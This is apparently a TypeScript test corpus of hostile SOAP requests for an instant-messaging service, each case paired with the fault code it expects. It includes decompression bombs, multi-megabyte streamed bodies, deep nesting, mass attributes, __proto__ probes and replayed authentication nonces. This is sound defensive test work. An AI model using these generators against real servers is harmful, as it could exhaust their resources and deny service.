  add(`${v}an Envelope of the other SOAP version`, 'SVC1006', () => (version === '1.1' ? env12() : env()), at);
  add(`${v}an Envelope without a namespace`, 'SVC1006', () => `<Envelope><Body><GetMessages/></Body></Envelope>`, at);
  add(
    `${v}an Envelope in a foreign namespace under the soap prefix`,
    'SVC1006',
    () => envelope().replace(/xmlns:soap="[^"]+"/, 'xmlns:soap="urn:not-soap"'),
    at,
  );
  add(
    `${v}a root element other than Envelope`,
    'SVC1006',
    () => `<soap:Body xmlns:soap="${version === '1.1' ? ns.soap11 : ns.soap12}"/>`,
    at,
  );
  add(`${v}two Bodies`, 'SVC1013', () => envelope({ afterBody: '<soap:Body/>' }), at);
  add(`${v}two Bodies, both with operations`, 'SVC1013', () => envelope({ afterBody: '<soap:Body><im:GetMessages/></soap:Body>' }), at);
  add(`${v}two Headers`, 'SVC1013', () => envelope({ betweenHeaderAndBody: '<soap:Header/>' }), at);
  add(`${v}a Header after the Body`, 'SVC1013', () => envelope({ afterBody: '<soap:Header/>' }), at);
  add(
    `${v}the only token, in a Header after the Body, is not used`,
    'SVC1101',
    () => envelope({ header: null, afterBody: header(token()) }),
    at,
  );
  add(`${v}an element after the Body`, 'SVC1013', () => envelope({ afterBody: foreign('after') }), at);
  add(`${v}an element before the Header`, 'SVC1013', () => envelope({ beforeHeader: foreign('before') }), at);
  add(`${v}an element between Header and Body`, 'SVC1013', () => envelope({ betweenHeaderAndBody: foreign('between') }), at);
  add(`${v}two operation elements`, 'SVC1013', () => envelope({ afterOperation: '<im:GetMessages/>' }), at);
  add(`${v}two operation elements, the second one unknown`, 'SVC1013', () => envelope({ afterOperation: '<im:DeleteEverything/>' }), at);
  add(`${v}text in the Envelope`, 'SVC1013', () => envelope({ beforeHeader: 'text' }), at);
  add(`${v}text in the Header`, 'SVC1013', () => envelope({ beforeSecurity: 'text' }), at);
  add(`${v}text in the Security header`, 'SVC1013', () => envelope({ security: tokenFields({ after: 'text' }) }), at);
  add(`${v}text in the Body before the operation`, 'SVC1013', () => envelope({ beforeOperation: 'text' }), at);
  add(`${v}text in the Body after the operation`, 'SVC1013', () => envelope({ afterOperation: 'text' }), at);
  add(`${v}text in the operation element`, 'SVC0002', () => envelope({ inner: 'text<im:maxMessages>1</im:maxMessages>' }), at);
  add(`${v}no Body`, 'SVC1013', () => envelope().replace(/<soap:Body>.*<\/soap:Body>/, ''), at);
  add(`${v}an empty Body`, 'SVC1005', () => envelope({ operationElement: '' }), at);
  add(`${v}an empty Envelope`, 'SVC1013', () => `<soap:Envelope xmlns:soap="${version === '1.1' ? ns.soap11 : ns.soap12}"/>`, at);
  add(`${v}the operation in no namespace`, 'SVC1008', () => envelope({ operationElement: '<GetMessages/>' }), at);
  add(
    `${v}the operation in another service's namespace`,
    'SVC1008',
    () => envelope({ operationElement: `<p:GetMessages xmlns:p="${services.Presence}"/>` }),
    at,
  );
  add(`${v}an unknown operation`, 'SVC1005', () => envelope({ operation: 'DeleteEverything', inner: '' }), at);
  add(`${v}an operation of another service`, 'SVC1005', () => envelope({ operation: 'GetPresence', inner: '' }), at);
  add(`${v}a response element as the operation`, 'SVC1005', () => envelope({ operation: 'GetMessagesResponse', inner: '' }), at);
  add(`${v}a fault detail element as the operation`, 'SVC1005', () => envelope({ operation: 'ServiceException', inner: '' }), at);
  add(`${v}href on a message child`, 'SVC1010', () => sendMessages('<im:subject href="#id1"/>', { version }), at);
  add(`${v}id on the operation`, 'SVC1010', () => envelope({ operationAttributes: 'id="id1"' }), at);
  add(`${v}id on a header entry`, 'SVC1010', () => envelope({ afterSecurity: foreign('h', 'id="id1"') }), at);
  add(
    `${v}soapenc:arrayType on a message`,
    'SVC1010',
    () => sendMessages('', { version, operationAttributes: `xmlns:soapenc="${ns.enc11}" soapenc:arrayType="im:OutboundMessage[1]"` }),
    at,
  );
  add(
    `${v}SOAP-ENC:position on a recipient`,
    'SVC1010',
    () =>
      envelope({
        operation: 'SendMessages',
        inner: `<im:message><im:recipient xmlns:SOAP-ENC="${ns.enc11}" SOAP-ENC:position="[0]">${recipient}</im:recipient><im:content>aGk=</im:content></im:message>`,
      }),
    at,
  );
  add(
    `${v}SOAP-ENC:root on the operation`,
    'SVC1010',
    () => envelope({ operationAttributes: `xmlns:SOAP-ENC="${ns.enc11}" SOAP-ENC:root="1"` }),
    at,
  );
  add(
    `${v}a SOAP 1.2 encoding attribute (enc:itemType)`,
    'SVC1010',
    () => envelope({ operationAttributes: `xmlns:enc="${ns.enc12}" enc:itemType="xsd:string"` }),
    at,
  );
  add(
    `${v}a SOAP 1.2 encoding ref (enc:ref)`,
    'SVC1010',
    () => sendMessages(`<im:subject xmlns:enc="${ns.enc12}" enc:ref="x"/>`, { version }),
    at,
  );
  add(`${v}encodingStyle on the Envelope`, 'SVC1010', () => envelope({ envelopeAttributes: `soap:encodingStyle="${ns.enc11}"` }), at);
  add(`${v}encodingStyle on the Body`, 'SVC1010', () => envelope({ bodyAttributes: `soap:encodingStyle="${ns.enc11}"` }), at);
  add(`${v}encodingStyle on the operation`, 'SVC1010', () => envelope({ operationAttributes: `soap:encodingStyle="${ns.enc11}"` }), at);
  add(
    `${v}encodingStyle on a message child`,
    'SVC1010',
    () => sendMessages(`<im:subject soap:encodingStyle="${ns.enc11}">x</im:subject>`, { version }),
    at,
  );
  add(`${v}an unqualified encodingStyle`, 'SVC1010', () => envelope({ operationAttributes: `encodingStyle="${ns.enc11}"` }), at);
  add(
    `${v}encodingStyle on a header entry`,
    'SVC1010',
    () => envelope({ afterSecurity: foreign('h', `soap:encodingStyle="${ns.enc11}"`) }),
    at,
  );
  add(`${v}wsu:Id on the Body stays accepted`, 'OK', () => envelope({ bodyAttributes: `xmlns:wsu="${ns.wsu}" wsu:Id="body-1"` }), at);
  add(
    `${v}wsu:Id on the operation stays accepted`,
    'OK',
    () => envelope({ operationAttributes: `xmlns:wsu="${ns.wsu}" wsu:Id="op-1"` }),
    at,
  );
  add(`${v}xsi:nil on an optional element`, 'OK', () => envelope({ inner: `<im:maxMessages xsi:nil="true" xmlns:xsi="${ns.xsi}"/>` }), at);
  add(
    `${v}comments around the operation`,
    'OK',
    () => envelope({ beforeOperation: '<!-- before -->', afterOperation: '<!-- after -->' }),
    at,
  );
}
add(
  'SOAP 1.2: Security addressed to role ultimateReceiver',
  'OK',
  () => env12({ security: tokenWith(`soap:role="${ns.roleUltimate}" soap:mustUnderstand="true"`) }),
  { path: im12 },
);
add('SOAP 1.2: the only Security addressed to role none', 'SVC1101', () => env12({ security: tokenWith(`soap:role="${ns.roleNone}"`) }), {
  path: im12,
});
add(
  'SOAP 1.2: an unknown header with mustUnderstand for role none is ignored',
  'OK',
  () => env12({ afterSecurity: foreign('h', `soap:mustUnderstand="true" soap:role="${ns.roleNone}"`) }),
  { path: im12 },
);
add(
  'SOAP 1.2: a 1.1 actor attribute does not address the Security header',
  'OK',
  () => env12({ security: tokenWith('soap:actor="urn:somebody-else"') }),
  { path: im12 },
);
add('SOAP 1.1: a 1.2 role attribute does not address the Security header', 'OK', () =>
  env({ security: tokenWith('soap:role="urn:somebody-else"') }),
);
add('SOAP 1.1: the 1.2 actor next does not address the Security header elsewhere', 'SVC1101', () =>
  env({ security: tokenWith(`soap:actor="${ns.roleNext}"`) }),
);
// Strict is not fussy: what real stacks send in their own ways stays accepted.
add('the operation in a default namespace with unprefixed children is accepted', 'OK', () =>
  env({ operationElement: `<GetMessages xmlns="${services.InstantMessaging}"><maxMessages>1</maxMessages></GetMessages>` }),
);
add(
  'SOAP-ENV and ns1 prefixes, newlines and indentation are accepted',
  'OK',
  () =>
    `<?xml version="1.0" encoding="UTF-8"?>\n<SOAP-ENV:Envelope xmlns:SOAP-ENV="${ns.soap11}" xmlns:ns1="${services.InstantMessaging}">\n  <SOAP-ENV:Header>\n    ${token()}\n  </SOAP-ENV:Header>\n  <SOAP-ENV:Body>\n    <ns1:GetMessages>\n      <ns1:maxMessages> 1 </ns1:maxMessages>\n    </ns1:GetMessages>\n  </SOAP-ENV:Body>\n</SOAP-ENV:Envelope>\n`,
);
add('no XML declaration is accepted', 'OK', () => withDeclaration(env(), ''));
add('an XML declaration with standalone="yes" is accepted', 'OK', () =>
  withDeclaration(env(), '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'),
);
add('an XML declaration with encoding="utf8" is accepted', 'OK', () => withDeclaration(env(), "<?xml version='1.0' encoding='utf8'?>"));
add('xml:lang and xml:id on the operation are accepted', 'OK', () => env({ operationAttributes: 'xml:lang="en" xml:id="op1"' }));
add('a Username given through character references is accepted', 'OK', () =>
  env({ security: token().replace('alice@example.com</wsse:Username>', 'alice&#64;example&#x2E;com</wsse:Username>') }),
);
add('a Username in CDATA with surrounding whitespace is accepted', 'OK', () =>
  env({ security: token().replace('alice@example.com</wsse:Username>', ' <![CDATA[alice@example.com]]> </wsse:Username>') }),
);
add('a Created in the wsse namespace (older stacks) is accepted', 'OK', () =>
  env({ security: token().replace(/<wsu:Created>([^<]+)<\/wsu:Created>/, '<wsse:Created>$1</wsse:Created>') }),
);
add('an unknown element in the UsernameToken (wsse11:Salt) is ignored', 'OK', () =>
  env({
    security: token().replace('</wsse:UsernameToken>', '<wsse11:Salt xmlns:wsse11="urn:wsse11">AAAA</wsse11:Salt></wsse:UsernameToken>'),
  }),
);
add('a wsu:Timestamp beside the UsernameToken is ignored', 'OK', () =>
  env({
    security: token().replace(
      '</wsse:Security>',
      `<wsu:Timestamp wsu:Id="ts"><wsu:Created>${new Date().toISOString()}</wsu:Created></wsu:Timestamp></wsse:Security>`,
    ),
  }),
);
add('a Password Type in the wsse namespace is not the Type attribute', 'SVC1105', () =>
  env({ security: token().replace('<wsse:Password Type=', '<wsse:Password wsse:Type=') }),
);
add('the operation in a namespace named __proto__', 'SVC1008', () => env({ operationElement: '<GetMessages xmlns="__proto__"/>' }));

// ---------------------------------------------------------------------------------------------------------
group = 'unbounded lists and values';
const presence = pathOf('Presence');
const directory = pathOf('Directory');
const contacts = pathOf('ContactLists');
const times = (n: number, item: (i: number) => string) => Array.from({ length: n }, (_, i) => item(i)).join('');
add(
  'AckMessages with 100,000 sequence numbers',
  'POL1007',
  () => env({ operation: 'AckMessages', inner: times(100_000, (i) => `<im:sequenceNumber>${i + 1}</im:sequenceNumber>`) }),
  { hangGuardMs: 30_000 },
);
add('AckMessages with 101 sequence numbers', 'POL1007', () =>
  env({ operation: 'AckMessages', inner: times(101, (i) => `<im:sequenceNumber>${i + 1}</im:sequenceNumber>`) }),
);
add('6 messages', 'POL1001', () => env({ operation: 'SendMessages', inner: times(6, () => message()) }));
add('100,000 messages', 'POL1001', () => env({ operation: 'SendMessages', inner: times(100_000, () => message()) }), {
  hangGuardMs: 30_000,
});
add('6 recipients', 'POL0003', () =>
  env({
    operation: 'SendMessages',
    inner: `<im:message>${times(6, () => `<im:recipient>${recipient}</im:recipient>`)}<im:content>aGk=</im:content></im:message>`,
  }),
);
add(
  '100,000 recipients',
  'POL0003',
  () =>
    env({
      operation: 'SendMessages',
      inner: `<im:message>${times(100_000, () => `<im:recipient>${recipient}</im:recipient>`)}<im:content>aGk=</im:content></im:message>`,
    }),
  { hangGuardMs: 30_000 },
);
add('6 recipients in the second message', 'POL0003', () =>
  env({
    operation: 'SendMessages',
    inner:
      message() + `<im:message>${times(6, () => `<im:recipient>${recipient}</im:recipient>`)}<im:content>aGk=</im:content></im:message>`,
  }),
);
add(
  'GetPresence with 6 presentities',
  'POL0003',
  () => env({ service: 'Presence', operation: 'GetPresence', inner: times(6, () => `<im:presentity>${recipient}</im:presentity>`) }),
  { path: presence },
);
add(
  'SubscribePresence with 6 presentities',
  'POL0003',
  () => env({ service: 'Presence', operation: 'SubscribePresence', inner: times(6, () => `<im:presentity>${recipient}</im:presentity>`) }),
  { path: presence },
);
add(
  'UnsubscribePresence with 100,000 presentities',
  'POL0003',
  () =>
    env({
      service: 'Presence',
      operation: 'UnsubscribePresence',
      inner: times(100_000, () => `<im:presentity>${recipient}</im:presentity>`),
    }),
  { path: presence, hangGuardMs: 30_000 },
);
add(
  'UpdateSubscriptionAuthorization with 6 decisions',
  'POL0003',
  () =>
    env({
      service: 'Presence',
      operation: 'UpdateSubscriptionAuthorization',
      inner: times(6, () => `<im:decision><im:watcher>${recipient}</im:watcher><im:grant>true</im:grant></im:decision>`),
    }),
  { path: presence },
);
add(
  'PublishPresence with 6 capabilities',
  'POL1007',
  () =>
    env({
      service: 'Presence',
      operation: 'PublishPresence',
      inner: `<im:availability>available</im:availability>${times(6, (i) => `<im:capability>c${i}</im:capability>`)}`,
    }),
  { path: presence },
);
add(
  'PublishPresence with 6 attributes',
  'POL1007',
  () =>
    env({
      service: 'Presence',
      operation: 'PublishPresence',
      inner: `<im:availability>available</im:availability>${times(6, (i) => `<im:attribute><im:name>n${i}</im:name><im:value>v</im:value></im:attribute>`)}`,
    }),
  { path: presence },
);
add(
  'SetDirectoryEntries with 6 entries',
  'POL4002',
  () =>
    env({
      service: 'Directory',
      operation: 'SetDirectoryEntries',
      inner: times(6, (i) => `<im:entry><im:username>u${i}</im:username><im:address>${recipient}</im:address></im:entry>`),
    }),
  { path: directory },
);
add(
  'RemoveDirectoryEntries with 100,000 usernames',
  'POL4002',
  () =>
    env({ service: 'Directory', operation: 'RemoveDirectoryEntries', inner: times(100_000, (i) => `<im:username>u${i}</im:username>`) }),
  { path: directory, hangGuardMs: 30_000 },
);
add(
  'AddContact with 6 alternatives',
  'POL1007',
  () =>
    env({
      service: 'ContactLists',
      operation: 'AddContact',
      inner: `<im:listName>friends</im:listName><im:contact>${recipient}</im:contact>${times(6, (i) => `<im:alternative><im:name>n${i}</im:name><im:value>v</im:value></im:alternative>`)}`,
    }),
  { path: contacts },
);
add(
  'SetContactAlternatives with 6 alternatives',
  'POL1007',
  () =>
    env({
      service: 'ContactLists',
      operation: 'SetContactAlternatives',
      inner: `<im:listName>friends</im:listName><im:nickname>bob</im:nickname>${times(6, (i) => `<im:alternative><im:name>n${i}</im:name><im:value>v</im:value></im:alternative>`)}`,
    }),
  { path: contacts },
);
add('a subject over maxStringChars', 'POL1009', () => sendMessages(`<im:subject>${repeat('s', 4097)}</im:subject>`));
add('a subject over maxStringChars in CDATA pieces', 'POL1009', () =>
  sendMessages(`<im:subject>${times(5, () => `<![CDATA[${repeat('s', 1000)}]]>`)}</im:subject>`),
);
add('a subject over maxStringChars through character references', 'POL1009', () =>
  sendMessages(`<im:subject>${repeat('&#x41;', 4097)}</im:subject>`),
);
add('a subject of exactly maxStringChars is accepted', 'OK', () => sendMessages(`<im:subject>${repeat('s', 4096)}</im:subject>`), {
  writes: 1,
});
add(
  'a status text over maxStringChars (Presence)',
  'POL1009',
  () =>
    env({
      service: 'Presence',
      operation: 'PublishPresence',
      inner: `<im:availability>available</im:availability><im:statusText>${repeat('s', 5000)}</im:statusText>`,
    }),
  { path: presence },
);
add(
  'content of 3 MB base64',
  'POL1009',
  () =>
    env({
      operation: 'SendMessages',
      inner: `<im:message><im:recipient>${recipient}</im:recipient><im:content>${repeat('QUFB', 3 << 18)}</im:content></im:message>`,
    }),
  { hangGuardMs: 30_000 },
);
// saxes reports a text only when it ends: the pre-auth budget (16 kB here) is crossed first.
add('a 7 MB Nonce', 'POL1006', () => env({ security: tokenFields({ nonce: repeat('A', 7 << 20) }) }), { hangGuardMs: 30_000 });
add('a 10,000-character Nonce (within the pre-auth budget)', 'SVC1106', () =>
  env({ security: tokenFields({ nonce: repeat('A', 10_000) }) }),
);
add('a 10,000-character Password (within the pre-auth budget)', 'SVC1106', () =>
  env({ security: tokenFields({ password: repeat('p', 10_000) }) }),
);
add('two contents in a message', 'SVC0002', () => sendMessages('<im:content>aGk=</im:content>'));
add('two subjects in a message', 'SVC0002', () => sendMessages('<im:subject>a</im:subject><im:subject>b</im:subject>'));
add('two maxMessages', 'SVC0002', () => env({ inner: '<im:maxMessages>1</im:maxMessages><im:maxMessages>2</im:maxMessages>' }));
add('two messageIds in GetDeliveryStatus', 'SVC0002', () =>
  env({ operation: 'GetDeliveryStatus', inner: '<im:messageId>a</im:messageId><im:messageId>b</im:messageId>' }),
);
add(
  'two availabilities (Presence)',
  'SVC0002',
  () =>
    env({
      service: 'Presence',
      operation: 'PublishPresence',
      inner: '<im:availability>available</im:availability><im:availability>busy</im:availability>',
    }),
  { path: presence },
);
add('two xsi:nil maxMessages', 'SVC0002', () =>
  env({ inner: `<im:maxMessages xsi:nil="true" xmlns:xsi="${ns.xsi}"/><im:maxMessages>2</im:maxMessages>` }),
);
add('an unknown element in a message', 'SVC0002', () => sendMessages('<im:bcc>eve@example.com</im:bcc>'));
add('an unknown element in the operation', 'SVC0002', () => env({ inner: '<im:deleteAll>true</im:deleteAll>' }));
add('an element of another operation', 'SVC0002', () => env({ inner: '<im:sequenceNumber>1</im:sequenceNumber>' }));
add('an element inside a string element', 'SVC0002', () => sendMessages('<im:subject><im:b>bold</im:b></im:subject>'));
add('an element inside xsi:nil', 'SVC0002', () =>
  env({ inner: `<im:maxMessages xsi:nil="true" xmlns:xsi="${ns.xsi}"><im:x/></im:maxMessages>` }),
);
add('text inside xsi:nil', 'SVC0002', () => env({ inner: `<im:maxMessages xsi:nil="true" xmlns:xsi="${ns.xsi}">5</im:maxMessages>` }));
add('a message child in no namespace', 'SVC0002', () => sendMessages('<subject xmlns="">x</subject>'));
add('a message child in the Presence namespace', 'SVC0002', () => sendMessages(`<p:subject xmlns:p="${services.Presence}">x</p:subject>`));
add('a message child in the SOAP namespace', 'SVC0002', () => sendMessages('<soap:subject>x</soap:subject>'));
add('a message in a foreign namespace', 'SVC0002', () =>
  env({
    operation: 'SendMessages',
    inner: `<x:message xmlns:x="urn:x"><x:recipient>${recipient}</x:recipient><x:content>aGk=</x:content></x:message>`,
  }),
);
add('the operation child in the default namespace of another service', 'SVC0002', () =>
  env({ inner: `<maxMessages xmlns="${services.Presence}">1</maxMessages>` }),
);
add('mixed content in a message', 'SVC0002', () =>
  env({
    operation: 'SendMessages',
    inner: `<im:message>hello<im:recipient>${recipient}</im:recipient><im:content>aGk=</im:content></im:message>`,
  }),
);
add('mixed content after the last child', 'SVC0002', () =>
  env({
    operation: 'SendMessages',
    inner: `<im:message><im:recipient>${recipient}</im:recipient><im:content>aGk=</im:content>tail</im:message>`,
  }),
);
add('CDATA as mixed content in a message', 'SVC0002', () =>
  env({
    operation: 'SendMessages',
    inner: `<im:message><![CDATA[x]]><im:recipient>${recipient}</im:recipient><im:content>aGk=</im:content></im:message>`,
  }),
);
add('elements nested 20 deep in a subject (the schema refuses before the depth limit)', 'SVC0002', () =>
  sendMessages(`<im:subject>${repeat('<im:x>', 20)}${repeat('</im:x>', 20)}</im:subject>`),
);

// ---------------------------------------------------------------------------------------------------------
group = 'memory before authentication';
add('a header bigger than preAuthChars', 'POL1006', () => env({ afterSecurity: foreign('h', '', repeat('x', 20_000)) }));
add('a header of many small entries over preAuthChars', 'POL1006', () => env({ afterSecurity: times(2000, () => foreign('h')) }));
add('a 15 MB comment before the Body', 'POL1006', streamed(around({ betweenHeaderAndBody: '<!--@@-->' }), 'c', 15 << 20), {
  hangGuardMs: 20_000,
});
add('a 15 MB comment in the header', 'POL1006', streamed(around({ afterSecurity: '<!--@@-->' }), 'c', 15 << 20), { hangGuardMs: 20_000 });
add(
  '15 MB of whitespace before the Envelope',
  'POL1006',
  streamed(() => ['', env()], ' ', 15 << 20),
  { hangGuardMs: 20_000 },
);
add(
  'a 15 MB CDATA section in a foreign header',
  'POL1006',
  streamed(around({ afterSecurity: '<x:h xmlns:x="urn:x"><![CDATA[@@]]></x:h>' }), 'c', 15 << 20),
  { hangGuardMs: 20_000 },
);
add('15 MB of text in the Body before the operation', 'POL1006', streamed(around({ beforeOperation: '@@' }), 't', 15 << 20), {
  hangGuardMs: 20_000,
});
add('1000 attributes on a header entry', 'SVC1016', () =>
  env({ afterSecurity: `<x:h xmlns:x="urn:x" ${times(1000, (i) => `a${i}="" `)}/>` }),
);
add('17 attributes on the operation', 'SVC1016', () => env({ operationAttributes: times(17, (i) => `a${i}="" `) }));
add(
  '100,000 attributes on a message child',
  'SVC1016',
  () => sendMessages(`<im:subject ${times(100_000, (i) => `a${i}="" `)}>x</im:subject>`),
  { hangGuardMs: 30_000 },
);
add('a header entry nested 17 deep', 'SVC1004', () =>
  env({ afterSecurity: `${repeat('<x:a xmlns:x="urn:x">', 17)}${repeat('</x:a>', 17)}` }),
);
add('10,000 levels of nesting in the header', 'SVC1004', () => env({ afterSecurity: `${repeat('<a>', 10_000)}${repeat('</a>', 10_000)}` }));
add('an unauthenticated 10 MB body stops at the operation', 'SVC1101', streamed(around({ header: null, inner: '@@' }), ' ', 10 << 20), {
  hangGuardMs: 20_000,
});
add('an empty body', 'SVC1001', () => '');
add('one byte', 'SVC1002', () => '<');
add('an empty gzip body', 'SVC1001', () => gzipSync(Buffer.alloc(0)), { headers: { 'content-encoding': 'gzip' } });
add('gzip of 100 MB of zeros', 'SVC1002', () => () => repeatBuffer(gzipSync(Buffer.alloc(1 << 20)), 100), {
  headers: { 'content-encoding': 'gzip' },
  hangGuardMs: 20_000,
});
// One whitespace text node: refused as one over-long token long before the byte limit (request-parser feed()).
add('gzip of 100 MB of whitespace in the operation', 'POL1009', () => () => gzipBomb(splitAt(env({ inner: '@@' }), '@@')), {
  headers: { 'content-encoding': 'gzip' },
  hangGuardMs: 30_000,
});
add('gzip of 100 MB of whitespace in the header', 'POL1006', () => () => gzipBomb(splitAt(env({ afterSecurity: '@@' }), '@@')), {
  headers: { 'content-encoding': 'x-gzip' },
  hangGuardMs: 20_000,
});
add('deflate of 20 MB of whitespace in the operation', 'POL1009', () => deflateSync(env({ inner: repeat(' ', 20 << 20) })), {
  headers: { 'content-encoding': 'deflate' },
  hangGuardMs: 30_000,
});
add('a gzip body cut short', 'SVC1002', () => gzipSync(env()).subarray(0, 100), { headers: { 'content-encoding': 'gzip' } });
add('a valid gzip request with trailing garbage', 'SVC1002', () => Buffer.concat([gzipSync(env()), Buffer.from('trailing garbage')]), {
  headers: { 'content-encoding': 'gzip' },
});
add('Content-Encoding gzip on a plain body', 'SVC1002', () => env(), { headers: { 'content-encoding': 'gzip' } });
add('a valid gzip request is accepted', 'OK', () => gzipSync(env()), { headers: { 'content-encoding': 'gzip' } });
add('Content-Encoding identity is accepted', 'OK', () => env(), { headers: { 'content-encoding': 'identity' } });
for (const coding of ['br', 'compress', 'zstd', 'gzip, gzip', 'gzip, br', '__proto__']) {
  add(`Content-Encoding ${coding}`, 'SVC1015', () => env(), { status: 415, headers: { 'content-encoding': coding } });
}
add('a chunked body of one 17 MB text node', 'POL1009', streamed(around({ inner: '@@' }), ' ', 17 << 20), { hangGuardMs: 50_000 });
// Empty CDATA sections: each one is reported, none holds text, so only the byte limit can stop them.
add('a chunked body over requestBytes', 'POL1003', streamed(around({ inner: '@@' }), '<![CDATA[ ]]>', 17 << 20), {
  status: 413,
  hangGuardMs: 80_000,
});
const bigLength =
  (extra = '') =>
  () => ({
    head: `POST ${im} HTTP/1.1\r\nHost: localhost\r\nContent-Type: text/xml; charset=utf-8\r\nContent-Length: 1000000000\r\n${extra}\r\n`,
    bytes: '<soap:Envelope',
  });
cases.push({
  group,
  name: 'a Content-Length over requestBytes is refused before the body is read',
  code: 'POL1003',
  status: 413,
  raw: bigLength(),
  hangGuardMs: 10_000,
});
cases.push({
  group,
  name: 'a Content-Length over requestBytes with Expect: 100-continue',
  code: 'POL1003',
  status: 413,
  raw: bigLength('Expect: 100-continue\r\n'),
  hangGuardMs: 10_000,
});
cases.push({
  group,
  name: 'a Content-Length of 17 MB on the SOAP 1.2 path',
  code: 'POL1003',
  status: 413,
  path: im12,
  raw: () => ({
    head: `POST ${im12} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/soap+xml\r\nContent-Length: ${17 << 20}\r\n\r\n`,
  }),
  hangGuardMs: 10_000,
});

/** `times` copies of one gzip member: a valid multi-member gzip stream. */
function* repeatBuffer(member: Buffer, times: number): Generator<Buffer> {
  for (let i = 0; i < times; i++) yield member;
}

/** gzip members: `before`, 100 MB of spaces, `after`. */
function* gzipBomb([before, after]: readonly [string, string]): Generator<Buffer> {
  yield gzipSync(before);
  yield* repeatBuffer(gzipSync(Buffer.alloc(1 << 20, 0x20)), 100);
  yield gzipSync(after);
}

// ---------------------------------------------------------------------------------------------------------
group = 'methods';
for (const path of [im, im12, presence, pathOf('Administration')]) {
  for (const method of ['PUT', 'DELETE', 'PATCH', 'OPTIONS']) {
    cases.push({
      group,
      name: `${method} ${path}`,
      code: 'HTTP405',
      status: 405,
      method,
      path,
      body: () => (method === 'PUT' || method === 'PATCH' ? env() : ''),
    });
  }
}

// ---------------------------------------------------------------------------------------------------------
group = 'authentication';
// Wrong-password answers count towards the login throttle of 127.0.0.1 (20 per client): this group has 5 of
// them, and the corpus 1 more (a Username of "__proto__"). throttle.test.ts covers the throttle itself.
add('an unknown user', 'SVC1102', () => env({ security: token('nobody@example.com', { secret: 'guess' }) }));
add('a wrong password', 'SVC1102', () => env({ security: token(sender, { secret: 'wrong-password' }) }));
add('a user of a domain not hosted here', 'SVC1102', () => env({ security: token('alice@elsewhere.example', { secret: 'guess' }) }));
add('a Username that is not an address', 'SVC1102', () => env({ security: token('alice', { secret: 'guess' }) }));
add('a digest of the right password with a different nonce', 'SVC1102', () =>
  env({ security: tokenFields({ password: tokenFields().match(/<wsse:Password[^>]*>([^<]+)</)![1] }) }),
);
// Made when the case primes, not when the corpus loads: a slow run would otherwise age its Created out of the window.
let replayed = '';
add('a replayed nonce', 'SVC1103', () => replayed, { prime: () => ({ path: im, body: (replayed = env()) }) });
const sameNonce = Buffer.from('hostile-corpus-nonce-1');
add('a nonce replayed on the SOAP 1.2 path', 'SVC1103', () => env12({ security: tokenFieldsWithNonce(sameNonce) }), {
  path: im12,
  prime: () => ({ path: im, body: env({ security: tokenFieldsWithNonce(sameNonce) }) }),
});
add('a Created ten minutes old', 'SVC1104', () =>
  env({ security: token(sender, { created: new Date(Date.now() - 600_000).toISOString() }) }),
);
add('a Created ten minutes ahead', 'SVC1104', () =>
  env({ security: token(sender, { created: new Date(Date.now() + 600_000).toISOString() }) }),
);
add('a Created in 1970', 'SVC1104', () => env({ security: token(sender, { created: '1970-01-01T00:00:00Z' }) }));
add('a Created that is not a date', 'SVC1106', () => env({ security: tokenFields({ created: 'yesterday' }) }));
add('a missing Nonce', 'SVC1106', () => env({ security: tokenFields({ omit: ['nonce'] }) }));
add('a missing Created', 'SVC1106', () => env({ security: tokenFields({ omit: ['created'] }) }));
add('a missing Username', 'SVC1106', () => env({ security: tokenFields({ omit: ['username'] }) }));
add('a missing Password', 'SVC1106', () => env({ security: tokenFields({ omit: ['password'] }) }));
add('an empty Username', 'SVC1106', () => env({ security: tokenFields({ username: '' }) }));
add('a whitespace Username', 'SVC1106', () => env({ security: tokenFields({ username: '   ' }) }));
add('an empty UsernameToken', 'SVC1106', () =>
  env({ security: `<wsse:Security xmlns:wsse="${ns.wsse}"><wsse:UsernameToken/></wsse:Security>` }),
);
add('an empty Security header', 'SVC1101', () => env({ security: `<wsse:Security xmlns:wsse="${ns.wsse}"/>` }));
add('no Header', 'SVC1101', () => env({ header: null }));
add('an empty Header', 'SVC1101', () => env({ header: '<soap:Header/>' }));
add('PasswordText without TLS', 'SVC1105', () => env({ security: token(sender, { type: 'text' }) }));
add('a Password without Type', 'SVC1105', () => env({ security: tokenFields({ passwordType: null }) }));
add('a Password Type that only starts like PasswordDigest', 'SVC1105', () =>
  env({ security: tokenFields({ passwordType: '#PasswordDigestX' }) }),
);
add('a Username of 300 characters', 'SVC1106', () => env({ security: tokenFields({ username: repeat('u', 300) + '@example.com' }) }));
add('a Password of 1025 characters', 'SVC1106', () => env({ security: tokenFields({ password: repeat('p', 1025) }) }));
add('a Nonce of 129 characters', 'SVC1106', () => env({ security: tokenFields({ nonce: repeat('A', 129) }) }));
add('a Created of 65 characters', 'SVC1106', () => env({ security: tokenFields({ created: repeat('9', 65) }) }));
add('two UsernameTokens', 'SVC1106', () => env({ security: tokenFields({ after: '<wsse:UsernameToken/>' }) }));
add('two Usernames', 'SVC1106', () => env({ security: tokenFields({ extra: `<wsse:Username>${sender}</wsse:Username>` }) }));
add('two Nonces', 'SVC1106', () => env({ security: tokenFields({ extra: '<wsse:Nonce>AAAA</wsse:Nonce>' }) }));
add('an element inside the Username', 'SVC1106', () => env({ security: tokenFields({ username: `<b>${sender}</b>` }) }));
add('a UsernameToken directly in the Header', 'SVC1101', () =>
  env({
    security: tokenFields()
      .replace(/^<wsse:Security[^>]*>/, '')
      .replace('</wsse:Security>', '')
      .replace('<wsse:UsernameToken>', `<wsse:UsernameToken xmlns:wsse="${ns.wsse}" xmlns:wsu="${ns.wsu}">`),
  }),
);
add('a UsernameToken in the Body before the operation', 'SVC1005', () =>
  env({
    header: null,
    beforeOperation: tokenFields()
      .replace(/^<wsse:Security[^>]*>/, '')
      .replace('</wsse:Security>', '')
      .replace('<wsse:UsernameToken>', `<wsse:UsernameToken xmlns:wsse="${ns.wsse}" xmlns:wsu="${ns.wsu}">`),
  }),
);
// Authentication happens at the operation's start tag, before any of the payload is read: a token there is never used.
add('a Security header inside the operation', 'SVC1101', () => env({ header: null, inner: token() }));
add('a Security header inside a message', 'SVC1101', () => sendMessages(token(), { header: null }));
add('a Security header after the operation', 'SVC1101', () => env({ header: null, afterOperation: token() }));
add('an unauthenticated request with payload faults gets SVC1101, not the payload fault', 'SVC1101', () =>
  env({ header: null, operation: 'AckMessages', inner: '<im:bogus/>' + '<im:sequenceNumber>1</im:sequenceNumber>'.repeat(200) }),
);
